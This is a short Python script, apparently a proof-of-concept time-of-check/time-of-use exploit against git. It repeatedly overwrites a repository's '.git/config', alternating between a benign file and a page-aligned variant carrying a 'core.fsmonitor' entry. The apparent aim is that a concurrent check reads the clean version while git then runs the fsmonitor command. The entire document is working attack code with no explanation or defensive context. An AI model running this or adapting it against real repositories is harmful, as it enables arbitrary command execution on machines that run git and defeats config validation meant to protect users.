import os, time
first = b'[core]\nrepositoryformatversion=0\nbare=false\nfilemode=true\n'
key = b'[core] fsmonitor = x\n'
def block(start, end):
    fill = 4096 - len(start) - len(end)
    return start + (b'#' + b'y' * 62 + b'\n') * ((fill - 2) // 64) + b'#' + b'z' * ((fill - 2) % 64) + b'\n' + end
A = block(first, b'') + block(b'#\n', b'') * 239
B = block(first, b'#') + block(key, b'#') * 238 + block(key, b'')
open('go', 'w').close()
for i in range(300):
    for c in (A, B):
        fd = os.open('sub/.git/config', os.O_WRONLY | os.O_TRUNC); os.write(fd, c); os.close(fd)
        time.sleep(.012)
